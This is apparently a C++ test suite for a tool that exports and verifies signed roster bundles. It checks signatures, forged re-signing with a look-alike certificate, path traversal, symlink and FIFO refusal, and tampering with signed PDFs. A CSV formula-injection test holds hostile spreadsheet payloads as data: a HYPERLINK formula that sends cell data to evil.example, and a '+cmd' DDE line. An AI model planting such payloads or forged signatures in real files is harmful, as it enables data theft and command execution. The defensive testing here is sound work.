// The signed bundle as the recipient checks it: pdfsig, openssl, LibreOffice, meibo-cli verify.

#include "TestSupport.h"

#include <nlohmann/json.hpp>

#include <catch2/catch.hpp>

#include <functional>

#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>

using namespace meibo::test;

namespace {
const std::string kCli = MEIBO_CLI_PATH;

bool has(const std::string& program) { return runProcess({"/usr/bin/which", program}).exitCode == 0; }

/// One demo registry and export, shared by the tests below (the demo takes a second).
struct Demo {
    TempDir dir;
    std::string root = dir.file("demo");
    std::string vault = root + "/demo.meibo";
    std::string pass = root + "/demo-passphrase.txt";
    std::string out = root + "/export-2026-10-05";
    Demo() { REQUIRE(runProcess({kCli, "demo", root}).exitCode == 0); }
    ProcessResult cli(std::vector<std::string> args) const
    {
        args.insert(args.begin(), {kCli, "-f", vault, "--passphrase-file", pass});
        return runProcess(args);
    }
};

Demo& demo()
{
    static Demo d;
    return d;
}

std::string pdfsig(const std::string& file)
{
    TempDir home;
    return runProcess({"/usr/bin/pdfsig", "-no-ocsp", file}, {}, {"HOME=" + home.path()}).out;
}

const std::string kOrg = "株式会社サンプル情報研究所";

/// A new registry with the sample roster and no certificate kept yet.
struct Fresh {
    TempDir dir;
    std::string vault = dir.file("r.meibo");
    std::string pass = dir.file("pass.txt");
    explicit Fresh(const std::string& roster = std::string(MEIBO_TEST_DATA) + "/roster-sample.csv")
    {
        writeText(pass, "correct horse battery staple\n");
        REQUIRE(cli({"init", "--kdf-ops", "1", "--kdf-mem-mib", "1", "--org-name", kOrg}).exitCode == 0);
        REQUIRE(cli({"contract", "add", "--code", "METI-2026-01", "--title", "水銀規制に関する国内外実態調査", "--start",
                     "2026-04-01", "--end", "2027-03-31"})
                    .exitCode == 0);
        const auto imported = cli({"import", "--contract", "METI-2026-01", roster});
        INFO(imported.err);
        REQUIRE(imported.exitCode == 0);
    }
    ProcessResult cli(std::vector<std::string> args) const
    {
        args.insert(args.begin(), {kCli, "-f", vault, "--passphrase-file", pass});
        return runProcess(args);
    }
    ProcessResult exportTo(const std::string& out) const
    {
        return cli({"export", "--contract", "METI-2026-01", "--as-of", "2026-06-01", "--out", out});
    }
};

mode_t modeOf(const std::string& path)
{
    struct stat st{};
    REQUIRE(::lstat(path.c_str(), &st) == 0);
    return st.st_mode & 07777;
}

/// Every name in a folder.
std::vector<std::string> namesIn(const std::string& dir)
{
    const auto r = runProcess({"/bin/ls", "-A", dir});
    std::vector<std::string> names;
    std::size_t at = 0;
    while (at < r.out.size()) {
        const auto end = r.out.find('\n', at);
        names.push_back(r.out.substr(at, end - at));
        at = end == std::string::npos ? r.out.size() : end + 1;
    }
    return names;
}

/// A copy of the demo's bundle to spoil.
std::string copyOfDemo(const TempDir& t)
{
    const std::string copy = t.file("bundle");
    REQUIRE(runProcess({"/bin/cp", "-a", demo().out, copy}).exitCode == 0);
    return copy;
}

/// The manifest rewritten by `edit`, and signed again by a throwaway certificate whose name is the
/// company's: what anyone could do with the bundle.
void resign(const TempDir& t, const std::string& bundle, const std::function<void(nlohmann::json&)>& edit,
            const std::string& appended = {})
{
    auto manifest = nlohmann::json::parse(readBytes(bundle + "/manifest.json"));
    edit(manifest);
    writeText(bundle + "/manifest.json", manifest.dump(2) + "\n" + appended);
    if (!exists(t.file("forger.pem")))
        REQUIRE(runProcess({"/usr/bin/openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-utf8",
                            "-subj", "/CN=" + kOrg + "/O=" + kOrg, "-keyout", t.file("forger.key"), "-out",
                            t.file("forger.pem")})
                    .exitCode == 0);
    const auto sign = runProcess({"/usr/bin/openssl", "cms", "-sign", "-binary", "-md", "sha256", "-in",
                                  bundle + "/manifest.json", "-signer", t.file("forger.pem"), "-inkey",
                                  t.file("forger.key"), "-outform", "DER", "-out", bundle + "/manifest.json.p7s"});
    INFO(sign.err);
    REQUIRE(sign.exitCode == 0);
}

std::string sha256Hex(const std::string& path)
{
    const auto r = runProcess({"/usr/bin/sha256sum", path});
    return r.out.substr(0, 64);
}

/// `openssl x509 -fingerprint -sha256` of a PEM file: "AB:CD:…".
std::string opensslFingerprint(const std::string& pem)
{
    const auto r = runProcess({"/usr/bin/openssl", "x509", "-in", pem, "-noout", "-fingerprint", "-sha256"});
    const auto eq = r.out.find('=');
    REQUIRE(eq != std::string::npos);
    std::string fp = r.out.substr(eq + 1);
    while (!fp.empty() && (fp.back() == '\n' || fp.back() == '\r'))
        fp.pop_back();
    return fp;
}

/// meibo-cli verify that cannot hang the test run or eat the machine's memory if it misbehaves
/// (reading a FIFO or /dev/zero): 1 GiB of address space, a minute at most.
ProcessResult guardedVerify(const std::vector<std::string>& args)
{
    std::vector<std::string> argv{"/bin/sh", "-c", "ulimit -v 1048576; exec /usr/bin/timeout 60 \"$0\" \"$@\"", kCli,
                                  "verify"};
    argv.insert(argv.end(), args.begin(), args.end());
    return runProcess(argv);
}
} // namespace

TEST_CASE("the demo's bundle holds every document, owner-only, and verifies", "[cli][export]")
{
    const Demo& d = demo();
    struct stat st{};
    REQUIRE(::stat(d.out.c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0700);
    for (const char* name : {"form4-roster.pdf", "form4-roster.docx", "structure.pdf", "structure.docx", "structure.png",
                             "structure.svg", "roster.csv", "roster.xlsx", "status-report-1.pdf", "status-report-1.docx", "status-report-1.csv",
                             "compliance-methods.pdf", "compliance-methods.docx", "manifest.json", "manifest.json.p7s"}) {
        INFO(name);
        REQUIRE(::stat((d.out + "/" + name).c_str(), &st) == 0);
        CHECK((st.st_mode & 0777) == 0600);
    }
    const auto manifest = nlohmann::json::parse(readBytes(d.out + "/manifest.json"));
    CHECK(manifest["contract"] == "METI-2026-01");
    CHECK(manifest["files"].size() == 13);
    const auto report = readBytes(d.out + "/status-report-1.csv");
    const std::string reportCsv(report.begin(), report.end());
    CHECK(reportCsv.rfind("\xEF\xBB\xBFitem,status,status_id,text\r\n2,実施,done,\r\n", 0) == 0);
    CHECK(reportCsv.find("\r\n12,該当なし,n/a,約款型クラウドサービスは利用していないため。\r\n") != std::string::npos);
    CHECK(std::count(reportCsv.begin(), reportCsv.end(), '\n') == 33);
    CHECK_FALSE(manifest["audit_head"].get<std::string>().empty());
    const auto v = runProcess({kCli, "verify", d.out});
    CHECK(v.exitCode == 0);
    CHECK(v.out.find("Every file matches") != std::string::npos);
}

TEST_CASE("pdfsig finds every PDF validly signed, and a changed byte a digest mismatch", "[cli][export][client]")
{
    if (!has("pdfsig")) {
        WARN("pdfsig is not installed: skipped");
        return;
    }
    const Demo& d = demo();
    for (const char* name : {"form4-roster.pdf", "structure.pdf", "status-report-1.pdf", "compliance-methods.pdf"}) {
        const std::string report = pdfsig(d.out + "/" + name);
        INFO(name << "\n" << report);
        CHECK(report.find("Signature is Valid.") != std::string::npos);
        CHECK(report.find("ETSI.CAdES.detached") != std::string::npos);
        CHECK(report.find("Total document signed") != std::string::npos);
        CHECK(report.find("株式会社サンプル情報研究所") != std::string::npos);
    }
    TempDir t;
    auto bytes = readBytes(d.out + "/form4-roster.pdf");
    bytes[bytes.size() / 3] ^= 0x01; // inside the signed range (the original page content)
    writeBytes(t.file("tampered.pdf"), bytes);
    const std::string report = pdfsig(t.file("tampered.pdf"));
    INFO(report);
    CHECK(report.find("Signature is Valid.") == std::string::npos);
    CHECK((report.find("Digest Mismatch") != std::string::npos || report.find("Signature is Invalid") != std::string::npos));
}

TEST_CASE("openssl verifies the manifest's detached CMS signature", "[cli][export][client]")
{
    if (!has("openssl")) {
        WARN("openssl is not installed: skipped");
        return;
    }
    const Demo& d = demo();
    const auto ok = runProcess({"/usr/bin/openssl", "cms", "-verify", "-inform", "DER", "-in", d.out + "/manifest.json.p7s",
                                "-content", d.out + "/manifest.json", "-binary", "-noverify", "-out", "/dev/null"});
    CHECK(ok.exitCode == 0);
    CHECK(ok.err.find("Verification successful") != std::string::npos);
    TempDir t;
    auto manifest = readBytes(d.out + "/manifest.json");
    manifest[10] ^= 0x01;
    writeBytes(t.file("m.json"), manifest);
    const auto bad = runProcess({"/usr/bin/openssl", "cms", "-verify", "-inform", "DER", "-in",
                                 d.out + "/manifest.json.p7s", "-content", t.file("m.json"), "-binary", "-noverify",
                                 "-out", "/dev/null"});
    CHECK(bad.exitCode != 0);
}

TEST_CASE("verify names a changed, a missing and an added file", "[cli][export]")
{
    const Demo& d = demo();
    TempDir t;
    const std::string copy = t.file("bundle");
    REQUIRE(runProcess({"/bin/cp", "-a", d.out, copy}).exitCode == 0);
    auto csv = readBytes(copy + "/roster.csv");
    csv.push_back('x');
    writeBytes(copy + "/roster.csv", csv);
    REQUIRE(::unlink((copy + "/structure.png").c_str()) == 0);
    writeText(copy + "/extra.txt", "not from Meibo");
    const auto r = runProcess({kCli, "verify", copy, "--json"});
    CHECK(r.exitCode == 1);
    const auto report = nlohmann::json::parse(r.out);
    CHECK(report["ok"] == false);
    const std::string problems = report["problems"].dump();
    CHECK(problems.find("roster.csv differs") != std::string::npos);
    CHECK(problems.find("structure.png is missing") != std::string::npos);
    CHECK(problems.find("extra.txt was added") != std::string::npos);
    // A changed manifest breaks its signature.
    auto m = readBytes(copy + "/manifest.json");
    m[5] ^= 0x01;
    writeBytes(copy + "/manifest.json", m);
    const auto r2 = runProcess({kCli, "verify", copy});
    CHECK(r2.exitCode == 1);
    CHECK(r2.err.find("signature does not match") != std::string::npos);
}

TEST_CASE("an export never writes into a folder that holds files, and is reproducible where it should be",
          "[cli][export]")
{
    const Demo& d = demo();
    auto r = d.cli({"export", "--contract", "METI-2026-01", "--as-of", "2026-06-01", "--out", d.out});
    CHECK(r.exitCode == 1);
    CHECK(r.err.find("already holds files") != std::string::npos);
    TempDir t;
    r = d.cli({"export", "--contract", "METI-2026-01", "--as-of", "2026-06-01", "--out", t.file("second"), "--json"});
    REQUIRE(r.exitCode == 0);
    CHECK(nlohmann::json::parse(r.out)["personal_data"] == true);
    r = d.cli({"export", "--contract", "METI-2026-01", "--as-of", "2026-06-01", "--out", t.file("third")});
    REQUIRE(r.exitCode == 0);
    // The DOCX output is byte-for-byte the same for the same data and date (the registry's state,
    // printed as the audit-chain head, included).
    CHECK(readBytes(t.file("second") + "/form4-roster.docx") == readBytes(t.file("third") + "/form4-roster.docx"));
    CHECK(readBytes(t.file("second") + "/structure.docx") == readBytes(t.file("third") + "/structure.docx"));
    CHECK(readBytes(t.file("second") + "/roster.csv") == readBytes(d.out + "/roster.csv"));
}

TEST_CASE("the bundle's DOCX and XLSX pass the Open XML SDK validator", "[cli][export][client]")
{
    const char* validator = std::getenv("MEIBO_OOXML_VALIDATOR");
    if (!validator || !*validator) {
        WARN("MEIBO_OOXML_VALIDATOR is not set (./build.sh test sets it): skipped");
        return;
    }
    const Demo& d = demo();
    for (const char* name : {"form4-roster.docx", "structure.docx", "roster.xlsx", "status-report-1.docx",
                             "compliance-methods.docx"}) {
        const auto r = runProcess({validator, d.out + "/" + name});
        INFO(name << ": " << r.out << r.err);
        const auto at = r.out.find('{');
        REQUIRE(at != std::string::npos);
        const auto report = nlohmann::json::parse(r.out.substr(at));
        CHECK(report["ok"] == true);
    }
}

TEST_CASE("LibreOffice reads the XLSX back to the same rows as the CSV", "[cli][export][client]")
{
    if (!has("soffice")) {
        WARN("LibreOffice is not installed: skipped");
        return;
    }
    const Demo& d = demo();
    TempDir t;
    const auto conv = runProcess({"/usr/bin/soffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                                  "--outdir", t.path(), d.out + "/roster.xlsx"},
                                 {}, {"HOME=" + t.path()});
    REQUIRE(conv.exitCode == 0);
    auto fromXlsx = readBytes(t.file("roster.csv"));
    auto csv = readBytes(d.out + "/roster.csv");
    auto normalise = [](std::vector<std::uint8_t> b) {
        std::string s(b.begin(), b.end());
        if (s.rfind("\xEF\xBB\xBF", 0) == 0)
            s.erase(0, 3);
        std::string out;
        for (char c : s)
            if (c != '\r' && c != '"')
                out += c;
        return out;
    };
    CHECK(normalise(fromXlsx) == normalise(csv));
}

TEST_CASE("LibreOffice converts every DOCX and the text is the data", "[cli][export][client]")
{
    if (!has("soffice") || !has("pdftotext")) {
        WARN("LibreOffice or pdftotext is not installed: skipped");
        return;
    }
    const Demo& d = demo();
    TempDir t;
    const auto conv = runProcess({"/usr/bin/soffice", "--headless", "--convert-to", "pdf", "--outdir", t.path(),
                                  d.out + "/form4-roster.docx", d.out + "/structure.docx", d.out + "/status-report-1.docx"},
                                 {}, {"HOME=" + t.path()});
    REQUIRE(conv.exitCode == 0);
    {
        const auto report = runProcess({"/usr/bin/pdftotext", "-enc", "UTF-8", t.file("status-report-1.pdf"), "-"}).out;
        std::string flat;
        for (char c : report)
            if (c != ' ' && c != '\n')
                flat += c;
        for (const char* s : {"実施状況報告書", "別葉", "約款型クラウドサービスは利用していないため。", "該当なし"})
            CHECK(flat.find(s) != std::string::npos);
    }
    const auto text = runProcess({"/usr/bin/pdftotext", "-enc", "UTF-8", t.file("form4-roster.pdf"), "-"}).out;
    std::string compact;
    for (char c : text)
        if (c != ' ' && c != '\n')
            compact += c;
    for (const char* s : {"情報取扱者名簿", "経済太郎", "EmilyCarter", "X12345678", "再委託先", "水銀三郎"})
        CHECK(compact.find(s) != std::string::npos);
}

// ---- The export folder: no other user may read or plant anything in it

TEST_CASE("an export refuses a file, a link, a shared or a foreign folder, and changes nothing", "[cli][export]")
{
    Fresh r;
    const auto before = readBytes(r.vault);

    // A plain file: not chmodded, not written.
    writeText(r.dir.file("plain"), "mine\n");
    REQUIRE(::chmod(r.dir.file("plain").c_str(), 0644) == 0);
    auto res = r.exportTo(r.dir.file("plain"));
    CHECK(res.exitCode == 1);
    CHECK(res.err.find("is not a folder") != std::string::npos);
    CHECK(modeOf(r.dir.file("plain")) == 0644);
    CHECK(readBytes(r.dir.file("plain")) == std::vector<std::uint8_t>{'m', 'i', 'n', 'e', '\n'});

    // An empty folder others can write into (a shared temporary folder), sticky or not.
    for (const mode_t mode : {mode_t(0777), mode_t(01777), mode_t(0770)}) {
        const std::string shared = r.dir.file("shared");
        REQUIRE(::mkdir(shared.c_str(), 0700) == 0);
        REQUIRE(::chmod(shared.c_str(), mode) == 0);
        res = r.exportTo(shared);
        INFO(std::oct << mode << ": " << res.err);
        CHECK(res.exitCode == 1);
        CHECK(res.err.find("can be written by other users") != std::string::npos);
        CHECK(modeOf(shared) == mode);
        CHECK(namesIn(shared).empty());
        REQUIRE(::rmdir(shared.c_str()) == 0);
    }

    // A link to an empty folder of one's own: a link can be turned elsewhere.
    REQUIRE(::mkdir(r.dir.file("real").c_str(), 0700) == 0);
    REQUIRE(::symlink(r.dir.file("real").c_str(), r.dir.file("link").c_str()) == 0);
    for (const std::string& out : {r.dir.file("link"), r.dir.file("link") + "/"}) {
        res = r.exportTo(out);
        INFO(out);
        CHECK(res.exitCode == 1);
        CHECK(res.err.find("is a symbolic link") != std::string::npos);
        CHECK(namesIn(r.dir.file("real")).empty());
    }

    // A folder that belongs to someone else (only root can make one to test with).
    if (::geteuid() == 0) {
        const std::string foreign = r.dir.file("foreign");
        REQUIRE(::mkdir(foreign.c_str(), 0755) == 0);
        REQUIRE(::chown(foreign.c_str(), 65534, 65534) == 0);
        res = r.exportTo(foreign);
        CHECK(res.exitCode == 1);
        CHECK(res.err.find("belongs to another user (uid 65534)") != std::string::npos);
        CHECK(modeOf(foreign) == 0755);
        CHECK(namesIn(foreign).empty());
    } else {
        WARN("not root: the folder of another user is not tried");
    }

    // No certificate was made and kept for any of these: the registry is byte for byte the same.
    CHECK(readBytes(r.vault) == before);
    CHECK(r.cli({"cert", "show"}).exitCode == 1);

    // A new folder inside a shared one is the user's own: accepted, 0700, every file 0600.
    const std::string shared = r.dir.file("shared");
    REQUIRE(::mkdir(shared.c_str(), 0700) == 0);
    REQUIRE(::chmod(shared.c_str(), 01777) == 0);
    res = r.exportTo(shared + "/mine");
    INFO(res.err);
    REQUIRE(res.exitCode == 0);
    CHECK(modeOf(shared + "/mine") == 0700);
    for (const auto& name : namesIn(shared + "/mine")) {
        INFO(name);
        CHECK(modeOf(shared + "/mine/" + name) == 0600);
        CHECK(name.find(".part") == std::string::npos);
        CHECK(name.find("tmp") == std::string::npos);
    }
    CHECK(namesIn(shared) == std::vector<std::string>{"mine"});
}

// ---- verify: who signed

TEST_CASE("verify prints the signer's certificate fingerprint, and with -f or --cert fails for another signer",
          "[cli][export]")
{
    const Demo& d = demo();
    TempDir t;
    const auto kept = d.cli({"cert", "show", "--json"});
    REQUIRE(kept.exitCode == 0);
    writeText(t.file("kept.pem"), nlohmann::json::parse(kept.out)["certificate"].get<std::string>());
    const std::string keptFp = opensslFingerprint(t.file("kept.pem"));
    REQUIRE(keptFp.size() == 95);
    CHECK(nlohmann::json::parse(kept.out)["sha256"] == keptFp);

    // The genuine bundle: the fingerprint always; the registry's or the file's certificate agrees.
    auto res = runProcess({kCli, "verify", d.out});
    CHECK(res.exitCode == 0);
    CHECK(res.out.find("SHA-256: " + keptFp) != std::string::npos);
    CHECK(res.out.find("compare this fingerprint") != std::string::npos);
    res = d.cli({"verify", d.out});
    CHECK(res.exitCode == 0);
    CHECK(res.out.find("This is the certificate kept in the registry") != std::string::npos);
    res = runProcess({kCli, "verify", d.out, "--cert", t.file("kept.pem"), "--json"});
    CHECK(res.exitCode == 0);
    auto json = nlohmann::json::parse(res.out);
    CHECK(json["ok"] == true);
    CHECK(json["signer"] == kOrg);
    CHECK(json["signer_sha256"] == keptFp);
    CHECK(json["expected"]["source"] == "cert");
    CHECK(json["expected"]["matches"] == true);

    // roster.csv edited, the manifest recomputed and signed by a throwaway certificate named like
    // the company.
    const std::string forged = copyOfDemo(t);
    writeText(forged + "/roster.csv", "\xEF\xBB\xBFrole,label,name\r\n情報管理責任者,A,偽 太郎\r\n");
    resign(t, forged, [&](nlohmann::json& m) {
        for (auto& f : m["files"])
            if (f["name"] == "roster.csv") {
                f["size"] = readBytes(forged + "/roster.csv").size();
                f["sha256"] = sha256Hex(forged + "/roster.csv");
            }
    });
    const std::string forgerFp = opensslFingerprint(t.file("forger.pem"));
    REQUIRE(forgerFp != keptFp);

    // Without a certificate to compare with, the signature holds but the fingerprint differs.
    res = runProcess({kCli, "verify", forged});
    CHECK(res.exitCode == 0);
    CHECK(res.out.find("signed by “" + kOrg + "”") != std::string::npos);
    CHECK(res.out.find("SHA-256: " + forgerFp) != std::string::npos);
    CHECK(res.out.find(keptFp) == std::string::npos);

    // With the registry: exit 1, with a sentence naming both certificates.
    const auto registryBefore = readBytes(d.vault);
    res = d.cli({"verify", forged});
    INFO(res.err);
    CHECK(res.exitCode == 1);
    CHECK(res.err.find(forged + " was not signed by the expected certificate: the manifest was signed by “" + kOrg +
                       "”") != std::string::npos);
    CHECK(res.err.find("not with the certificate kept in the registry") != std::string::npos);
    CHECK(res.err.find(forgerFp) != std::string::npos);
    CHECK(res.err.find(keptFp) != std::string::npos);
    CHECK(res.out.empty());
    CHECK(readBytes(d.vault) == registryBefore);

    // With --cert, the same; and as JSON.
    res = runProcess({kCli, "verify", forged, "--cert", t.file("kept.pem")});
    CHECK(res.exitCode == 1);
    CHECK(res.err.find("not with the certificate in " + t.file("kept.pem")) != std::string::npos);
    res = runProcess({kCli, "verify", forged, "--cert", t.file("kept.pem"), "--json"});
    CHECK(res.exitCode == 1);
    json = nlohmann::json::parse(res.out);
    CHECK(json["ok"] == false);
    CHECK(json["signer_sha256"] == forgerFp);
    CHECK(json["expected"]["sha256"] == keptFp);
    CHECK(json["expected"]["matches"] == false);
    // The forger's own certificate is the one that made the signature.
    CHECK(runProcess({kCli, "verify", forged, "--cert", t.file("forger.pem")}).exitCode == 0);

    // Usage: a certificate file that is none, and -f with --cert.
    writeText(t.file("not.pem"), "hello\n");
    res = runProcess({kCli, "verify", d.out, "--cert", t.file("not.pem")});
    CHECK(res.exitCode == 1);
    CHECK(res.err.find("holds no certificate") != std::string::npos);
    res = d.cli({"verify", d.out, "--cert", t.file("kept.pem")});
    CHECK(res.exitCode == 2);
    CHECK(res.err.find("not both") != std::string::npos);
}

// ---- verify: only regular files inside the folder, a well-formed manifest

TEST_CASE("verify refuses a FIFO and symbolic links in the bundle without reading them", "[cli][export]")
{
    TempDir t;
    const std::string bundle = copyOfDemo(t);
    REQUIRE(::unlink((bundle + "/structure.png").c_str()) == 0);
    REQUIRE(::mkfifo((bundle + "/structure.png").c_str(), 0600) == 0);
    REQUIRE(::unlink((bundle + "/roster.csv").c_str()) == 0);
    REQUIRE(::symlink("/dev/zero", (bundle + "/roster.csv").c_str()) == 0);
    writeText(t.file("outside.txt"), "outside");
    REQUIRE(::unlink((bundle + "/structure.svg").c_str()) == 0);
    REQUIRE(::symlink(t.file("outside.txt").c_str(), (bundle + "/structure.svg").c_str()) == 0);
    const bool root = ::geteuid() == 0;
    if (root) { // a device node (a copy of /dev/zero) is never opened either
        REQUIRE(::unlink((bundle + "/structure.docx").c_str()) == 0);
        REQUIRE(::mknod((bundle + "/structure.docx").c_str(), S_IFCHR | 0600, makedev(1, 5)) == 0);
    }
    const auto res = guardedVerify({bundle, "--json"});
    INFO(res.out << res.err);
    CHECK(res.exitCode == 1);
    const std::string problems = nlohmann::json::parse(res.out)["problems"].dump();
    CHECK(problems.find("structure.png is not a regular file (a named pipe)") != std::string::npos);
    if (root)
        CHECK(problems.find("structure.docx is not a regular file (a device)") != std::string::npos);
    CHECK(problems.find("roster.csv is a symbolic link") != std::string::npos);
    CHECK(problems.find("structure.svg is a symbolic link") != std::string::npos);

    // A manifest that is itself a link is not followed either.
    TempDir t2;
    const std::string linked = copyOfDemo(t2);
    REQUIRE(::rename((linked + "/manifest.json").c_str(), t2.file("manifest.json").c_str()) == 0);
    REQUIRE(::symlink(t2.file("manifest.json").c_str(), (linked + "/manifest.json").c_str()) == 0);
    const auto link = guardedVerify({linked});
    CHECK(link.exitCode == 1);
    CHECK(link.err.find("manifest.json is a symbolic link") != std::string::npos);
}

TEST_CASE("verify refuses manifest names outside the folder, an empty list and a malformed manifest",
          "[cli][export]")
{
    TempDir t;
    writeText(t.file("secret.txt"), "another user's file\n");
    const auto check = [&](const std::function<void(nlohmann::json&)>& edit, const std::string& expected) {
        TempDir work;
        const std::string bundle = copyOfDemo(work);
        resign(t, bundle, edit);
        const auto res = guardedVerify({bundle});
        INFO(res.out << res.err);
        CHECK(res.exitCode == 1);
        CHECK(res.err.find(expected) != std::string::npos);
        CHECK(res.err.find("json.exception") == std::string::npos);
        CHECK(res.out.empty());
    };
    const nlohmann::json secret = {{"name", "../secret.txt"}, {"size", 20}, {"sha256", sha256Hex(t.file("secret.txt"))}};
    check([&](nlohmann::json& m) { m["files"].push_back(secret); }, "names “../secret.txt”, which is not a plain file name");
    check([&](nlohmann::json& m) { m["files"][0]["name"] = t.file("secret.txt"); }, "which is not a plain file name");
    check([&](nlohmann::json& m) { m["files"][0]["name"] = ".."; }, "which is not a plain file name");
    check([&](nlohmann::json& m) { m["files"] = nlohmann::json::array(); }, "its “files” list is empty");
    check([&](nlohmann::json& m) { m.erase("files"); }, "it has no “files” list");
    check([&](nlohmann::json& m) { m["files"] = "roster.csv"; }, "it has no “files” list");
    check([&](nlohmann::json& m) { m["files"][0]["name"] = 5; }, "entry 1 of “files” has no “name” text");
    check([&](nlohmann::json& m) { m["files"][1]["size"] = "big"; }, "entry 2 of “files” (form4-roster.docx) has no “size”");
    check([&](nlohmann::json& m) { m["files"][2]["sha256"] = nullptr; }, "has no “sha256” of 64 hexadecimal digits");
    check(
        [&](nlohmann::json& m) {
            const nlohmann::json first = m["files"][0];
            m["files"].push_back(first);
        },
        "a second time");
    check([&](nlohmann::json& m) { m["files"][0] = 1; }, "entry 1 of “files” is not an object");
    check([&](nlohmann::json& m) { m = nlohmann::json::array(); }, "it is not a JSON object");
    // A NUL ends what the JSON parser reads: what follows it must not hide behind a valid manifest.
    {
        TempDir work;
        const std::string bundle = copyOfDemo(work);
        resign(t, bundle, [](nlohmann::json&) {}, std::string("\0{\"files\": []}", 15));
        const auto res = guardedVerify({bundle});
        INFO(res.out << res.err);
        CHECK(res.exitCode == 1);
        CHECK(res.err.find("it holds a control character (byte") != std::string::npos);
    }
    // Not JSON at all.
    {
        TempDir work;
        const std::string bundle = copyOfDemo(work);
        writeText(bundle + "/manifest.json", "{\"files\": [");
        const auto res = guardedVerify({bundle});
        CHECK(res.exitCode == 1);
        CHECK(res.err.find("is not a well-formed Meibo manifest: it is not valid JSON") != std::string::npos);
    }
    CHECK(readBytes(t.file("secret.txt")).size() == 20);
}

TEST_CASE("verify refuses a file larger than any bundle file without reading it", "[cli][export]")
{
    TempDir t;
    const std::string bundle = copyOfDemo(t);
    // Sparse: takes no disk space, and would take a gigabyte of memory to read whole.
    REQUIRE(runProcess({"/usr/bin/truncate", "-s", "1073741825", bundle + "/structure.png"}).exitCode == 0);
    const auto res = guardedVerify({bundle, "--json"});
    INFO(res.out << res.err);
    CHECK(res.exitCode == 1);
    const std::string problems = nlohmann::json::parse(res.out)["problems"].dump();
    CHECK(problems.find("structure.png is larger than 1024 MiB") != std::string::npos);
}

// ---- CSV formula injection

TEST_CASE("a name that is a formula goes into roster.csv neutralised and comes back by import", "[cli][export]")
{
    const std::string hostile = "=HYPERLINK(\"https://evil.example/?d=\"&D2,\"詳細\")";
    TempDir t;
    const std::string csv =
        "role,label,name,address,birth_date,nationality,residence_status,reports_to,need,valid_from\n"
        "情報管理責任者,A,\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&D2,\"\"詳細\"\")\","
        "東京都千代田区,1970-04-01,JP,日本国籍,,全責任を負うため,2026-04-01\n"
        "業務従事者,B,+cmd|' /C calc'!A0,東京都港区,1980-01-01,JP,日本国籍,A,@SUM(1+1),2026-04-01\n";
    writeText(t.file("hostile.csv"), csv);
    Fresh r(t.file("hostile.csv"));
    const auto res = r.exportTo(t.file("out"));
    INFO(res.err);
    REQUIRE(res.exitCode == 0);
    const auto bytes = readBytes(t.file("out") + "/roster.csv");
    const std::string written(bytes.begin(), bytes.end());
    CHECK(written.find("\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&D2,\"\"詳細\"\")\"") != std::string::npos);
    CHECK(written.find(",'+cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(written.find(",'@SUM(1+1),") != std::string::npos);
    CHECK(written.find(",=") == std::string::npos);
    CHECK(written.find(",\"=") == std::string::npos);
    CHECK(written.find(",+") == std::string::npos);
    CHECK(written.find(",@") == std::string::npos);
    CHECK(runProcess({kCli, "verify", t.file("out")}).exitCode == 0);

    // The exported roster.csv imports back to the very values (the apostrophe taken off again).
    Fresh back(t.file("out") + "/roster.csv");
    const auto roster = back.cli({"roster", "--contract", "METI-2026-01", "--as-of", "2026-06-01", "--json"});
    REQUIRE(roster.exitCode == 0);
    const auto entries = nlohmann::json::parse(roster.out)["entries"];
    REQUIRE(entries.size() == 2);
    CHECK(entries[0]["name"] == hostile);
    CHECK(entries[1]["name"] == "+cmd|' /C calc'!A0");
}

// ---- Certification signatures

TEST_CASE("every PDF of the bundle is certified with no changes permitted, and a later update shows",
          "[cli][export][client]")
{
    const Demo& d = demo();
    for (const char* name : {"form4-roster.pdf", "structure.pdf", "status-report-1.pdf", "compliance-methods.pdf"}) {
        INFO(name);
        const auto bytes = readBytes(d.out + "/" + name);
        const std::string pdf(bytes.begin(), bytes.end());
        const auto sig = pdf.rfind("/Type /Sig ");
        REQUIRE(sig != std::string::npos);
        const std::string sigObject = pdf.substr(sig, pdf.find("endobj", sig) - sig);
        CHECK(sigObject.find("/Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type "
                             "/TransformParams /P 1 /V /1.2 >> >>]") != std::string::npos);
        // The catalog's /Perms /DocMDP names that signature dictionary.
        const auto objStart = pdf.rfind(" obj", sig);
        const auto numStart = pdf.rfind('\n', objStart);
        const std::string sigNumber = pdf.substr(numStart + 1, pdf.find(' ', numStart + 1) - numStart - 1);
        CHECK(pdf.find("/Perms << /DocMDP " + sigNumber + " 0 R >>") != std::string::npos);
    }
    if (!has("pdfsig")) {
        WARN("pdfsig is not installed: the incremental update is not shown to it");
        return;
    }
    // An incremental update after signing: a new /Info for the document, appended with its own
    // cross-reference section, as any PDF editor would save it.
    const auto bytes = readBytes(d.out + "/form4-roster.pdf");
    std::string pdf(bytes.begin(), bytes.end());
    const auto startxref = pdf.rfind("startxref");
    const std::string prev = pdf.substr(startxref + 10, pdf.find('\n', startxref + 10) - startxref - 10);
    const auto sizeAt = pdf.rfind("/Size ");
    const long long size = std::stoll(pdf.substr(sizeAt + 6));
    const auto rootAt = pdf.rfind("/Root ");
    const std::string root = pdf.substr(rootAt, pdf.find(" R", rootAt) + 2 - rootAt);
    const std::size_t objAt = pdf.size();
    pdf += std::to_string(size) + " 0 obj\n<< /Title (changed after signing) >>\nendobj\n";
    const std::size_t xrefAt = pdf.size();
    char entry[32];
    std::snprintf(entry, sizeof entry, "%010zu 00000 n\r\n", objAt);
    pdf += "xref\n" + std::to_string(size) + " 1\n" + entry + "trailer\n<< /Size " + std::to_string(size + 1) + " " +
           root + " /Info " + std::to_string(size) + " 0 R /Prev " + prev + " >>\nstartxref\n" + std::to_string(xrefAt) +
           "\n%%EOF\n";
    TempDir t;
    writeText(t.file("updated.pdf"), pdf);
    const std::string report = pdfsig(t.file("updated.pdf"));
    INFO(report);
    CHECK(report.find("Not total document signed") != std::string::npos);
    CHECK(report.find("  - Total document signed") == std::string::npos);
    // The signature itself still holds for what it covers: the update is what shows.
    CHECK(report.find("Signature is Valid.") != std::string::npos);
}
